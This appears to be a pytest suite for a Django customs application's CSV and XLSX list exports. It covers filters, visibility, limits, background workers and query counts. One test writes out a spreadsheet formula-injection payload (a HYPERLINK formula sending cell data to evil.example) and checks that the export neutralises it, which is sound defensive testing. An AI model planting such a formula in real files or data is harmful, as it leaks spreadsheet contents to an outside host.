"""Every list page exports, as CSV and XLSX, the rows it shows with its filters, and nothing more;
a large export is written by a worker and downloaded from the operation's page."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from background import list_export
from background.models import Operation
from core.exports import CSV_CONTENT_TYPE, XLSX_CONTENT_TYPE
from enterprises.determination import proposal_notify
from tests.factories.enterprises import DishonestProposalFactory, EnterpriseFactory

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "xlsx")
CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}
LISTS = {
    "enterprises": ("/enterprises/", {}),
    "proposals": ("/enterprises/proposals/", {}),
    "repairs": ("/enterprises/repair-and-objections/", {"tab": "repairs"}),
    "objections": ("/enterprises/repair-and-objections/", {"tab": "objections"}),
    "applications": ("/certification/", {}),
    "certificates": ("/certification/certificates/", {}),
    "cases": ("/coordination/cases/", {}),
    "workload": ("/coordination/workload/", {}),
    "plans": ("/cultivation/", {}),
    "candidates": ("/cultivation/candidates/", {}),
}


def read_table(response, export):
    """The rows of an export as text, the header first."""
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[export]
    assert response["Content-Disposition"].startswith("attachment;")
    if export == "csv":
        body = b"".join(response.streaming_content).decode("utf-8")
        assert body.startswith("\ufeff"), "the BOM lets Excel read the Chinese text"
        return list(csv.reader(io.StringIO(body[1:])))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = sheet.iter_rows(values_only=True)
    return [["" if value is None else str(value) for value in row] for row in rows]


def export(client, url, fmt, language="zh-hans", **params):
    return read_table(client.get(url, {**params, "export": fmt}, HTTP_ACCEPT_LANGUAGE=language), fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_enterprise_export_has_the_filtered_rows_the_user_may_see(
    client, fmt, officer, enterprise_a, enterprise_b, enterprise_sh, enterprise_user_b
):
    client.force_login(officer)
    header, *rows = export(client, "/enterprises/", fmt)
    assert header[:4] == ["企业", "统一社会信用代码", "海关编码", "信用等级"]
    assert sorted(row[0] for row in rows) == sorted([enterprise_a.name, enterprise_b.name])
    _, *graded = export(client, "/enterprises/", fmt, credit_grade="advanced_certified")
    assert [row[:4] for row in graded] == [
        [enterprise_a.name, enterprise_a.uscc, enterprise_a.customs_code, "高级认证企业"]
    ]

    header, *rows = export(client, "/enterprises/", fmt, language="en", credit_grade="advanced_certified")
    assert header == [
        "Enterprise",
        "USCC",
        "Customs code",
        "Credit grade",
        "AEO code",
        "Business types",
        "Customs office",
    ]
    assert rows[0][0] == enterprise_a.name_en
    assert rows[0][3] == "Advanced certified enterprise"

    client.force_login(enterprise_user_b)
    assert [row[0] for row in export(client, "/enterprises/", fmt)[1:]] == [enterprise_b.name]


@pytest.mark.parametrize("fmt", FORMATS)
def test_proposal_export_follows_visibility_and_status(
    client, fmt, officer, enterprise_a, enterprise_b, enterprise_sh, enterprise_user, enterprise_user_b
):
    proposal = DishonestProposalFactory(enterprise=enterprise_a, grounds="Smuggling case XN-17.")
    proposal_notify(actor=officer, proposal=proposal)
    DishonestProposalFactory(enterprise=enterprise_b)
    DishonestProposalFactory(enterprise=enterprise_sh)
    client.force_login(officer)
    rows = export(client, "/enterprises/proposals/", fmt)[1:]
    assert sorted(row[0] for row in rows) == sorted([enterprise_a.name, enterprise_b.name])
    notified = export(client, "/enterprises/proposals/", fmt, status="notified")[1:]
    assert [row[0] for row in notified] == [enterprise_a.name]
    # Enterprises see their proposal only once customs sent the pre-notice.
    client.force_login(enterprise_user)
    assert [row[0] for row in export(client, "/enterprises/proposals/", fmt)[1:]] == [enterprise_a.name]
    client.force_login(enterprise_user_b)
    assert export(client, "/enterprises/proposals/", fmt)[1:] == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_formula_in_an_enterprise_name_is_neutralised(client, fmt, officer, offices):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    EnterpriseFactory(name=name, customs_office=offices["9700"])
    client.force_login(officer)
    rows = export(client, "/enterprises/", fmt)[1:]
    assert [row[0] for row in rows] == [f"'{name}"]


def test_an_export_beyond_the_limit_sends_the_user_back_with_a_message(client, officer, offices, settings):
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_MAX_ROWS = 1
    EnterpriseFactory(customs_office=offices["9700"])
    EnterpriseFactory(customs_office=offices["9700"])
    client.force_login(officer)
    response = client.get("/enterprises/", {"q": "测试", "export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 302
    assert response["Location"] == "/enterprises/?q=%E6%B5%8B%E8%AF%95"
    page = client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "The export is limited to 1 rows." in page
    assert not Operation.objects.exists()


def test_list_pages_link_their_exports_with_the_filters(client, officer, offices):
    client.force_login(officer)
    page = client.get("/enterprises/", {"credit_grade": "regular", "page": "2"}).content.decode()
    assert 'href="?credit_grade=regular&amp;export=csv"' in page
    assert 'href="?credit_grade=regular&amp;export=xlsx"' in page


def test_every_list_exports_for_an_officer_at_a_cost_that_does_not_grow_with_rows(client, make_world):
    world = make_world()
    client.force_login(world.officer)

    def read_all():
        """{(list, format): (rows, queries)} of every export."""
        read = {}
        for name, (url, params) in LISTS.items():
            for fmt in FORMATS:
                with CaptureQueriesContext(connection) as captured:
                    rows = export(client, url, fmt, **params)
                read[name, fmt] = (len(rows), len(captured))
        return read

    world.add_list_rows(3)
    few = read_all()
    world.add_list_rows(10)
    many = read_all()
    assert [key for key, (rows, _queries) in few.items() if rows < 2] == [], "every list has rows"
    assert [key for key in few if many[key][0] <= few[key][0]] == [], "the new rows are exported"
    grown = {key: (few[key][1], many[key][1]) for key in few if few[key][1] != many[key][1]}
    assert grown == {}, "queries grow with rows (few, many): an N+1"


def read_file(content, export):
    """The rows of an exported file as text, the header first."""
    if export == "csv":
        text = content.decode("utf-8")
        assert text.startswith("\ufeff"), "the BOM lets Excel read the Chinese text"
        return list(csv.reader(io.StringIO(text[1:])))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [
        ["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)
    ]


@pytest.fixture
def background_export(client, settings, tmp_path, django_capture_on_commit_callbacks):
    """Export with a worker (run in-process after the commit): the operation and its file's rows."""
    settings.MEDIA_ROOT = tmp_path

    def run(url, fmt, language="zh-hans", **params):
        settings.EXPORT_BACKGROUND_ROWS = 0
        with django_capture_on_commit_callbacks(execute=True):
            response = client.get(url, {**params, "export": fmt}, HTTP_ACCEPT_LANGUAGE=language)
        operation = Operation.objects.latest("pk")
        assert (response.status_code, response["Location"]) == (302, f"/operations/{operation.pk}/")
        operation.refresh_from_db()
        assert operation.status == "succeeded", operation.error
        download = client.get(f"/operations/{operation.pk}/download/")
        assert download["Content-Disposition"] == f'attachment; filename="{operation.subject}"'
        settings.EXPORT_BACKGROUND_ROWS = 5_000
        return operation, read_file(b"".join(download.streaming_content), fmt)

    return run


def test_every_large_export_is_written_by_a_worker_with_the_rows_of_the_page(
    client, make_world, background_export
):
    world = make_world()
    world.add_list_rows(3)
    client.force_login(world.officer)
    differences, lists = {}, set()
    for name, (url, params) in LISTS.items():
        for fmt in FORMATS:
            operation, rows = background_export(url, fmt, **params)
            lists.add(operation.params["list"])
            assert operation.subject.endswith(f".{fmt}")
            assert operation.result["rows"] == len(rows) - 1
            if rows != export(client, url, fmt, **params):
                differences[name, fmt] = rows
    assert differences == {}, "the worker's file differs from the streamed export"
    assert lists == set(list_export.declared_lists()), "every list that exports can export in the background"


def test_a_background_export_keeps_the_filters_visibility_and_language(
    client, officer, enterprise_a, enterprise_b, enterprise_sh, enterprise_user_b, background_export
):
    client.force_login(officer)
    operation, rows = background_export(
        "/enterprises/", "csv", language="en", credit_grade="advanced_certified"
    )
    assert rows[0][:4] == ["Enterprise", "USCC", "Customs code", "Credit grade"]
    assert [row[0] for row in rows[1:]] == [enterprise_a.name_en]
    assert operation.result["list_url"] == "/enterprises/?credit_grade=advanced_certified"
    page = client.get(operation.get_absolute_url(), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "The export is ready: 1 row." in page
    assert 'href="/enterprises/?credit_grade=advanced_certified"' in page

    client.force_login(enterprise_user_b)
    _operation, rows = background_export("/enterprises/", "xlsx")
    assert [row[0] for row in rows[1:]] == [enterprise_b.name]


def test_a_list_grown_past_the_limit_fails_the_export_in_the_worker(
    client, officer, offices, settings, background_export, monkeypatch
):
    """Rows added between the request and the worker: the worker counts again, and says why it stopped."""
    EnterpriseFactory(customs_office=offices["9700"])
    EnterpriseFactory(customs_office=offices["9700"])
    client.force_login(officer)
    # The request found the list within the limit; by the time the worker runs, it is not.
    monkeypatch.setattr(list_export, "_more_than", lambda rows, limit: limit == 0)
    settings.EXPORT_MAX_ROWS = 1
    with pytest.raises(AssertionError, match="The export is limited to 1 rows"):
        background_export("/enterprises/", "csv", language="en")
    assert not Operation.objects.get().result_file


def test_behind_a_transaction_pooler_an_export_reads_its_rows_in_chunks_in_the_lists_order(
    client, officer, offices, monkeypatch
):
    """PgBouncer in transaction mode allows no server-side cursor (DATABASE_POOLED): the export reads
    the keys, then the rows a chunk at a time, and keeps the page's order."""
    for n in range(5):
        EnterpriseFactory(customs_office=offices["9700"], name=f"分块导出公司{n}")
    monkeypatch.setitem(connection.settings_dict, "DISABLE_SERVER_SIDE_CURSORS", True)
    monkeypatch.setattr(list_export, "CHUNK_SIZE", 2)
    client.force_login(officer)
    with CaptureQueriesContext(connection) as queries:
        _, *rows = export(client, "/enterprises/", "csv", q="分块导出", sort="-name")
    assert [row[0] for row in rows] == [f"分块导出公司{n}" for n in (4, 3, 2, 1, 0)]
    reads = [query["sql"] for query in queries if "分块导出" in query["sql"]]
    keys_then_chunks = [sql for sql in reads if not sql.startswith('SELECT 1 AS "a"')]  # not the size check
    assert len(keys_then_chunks) == 1 + 3  # the keys, then 2 + 2 + 1 rows
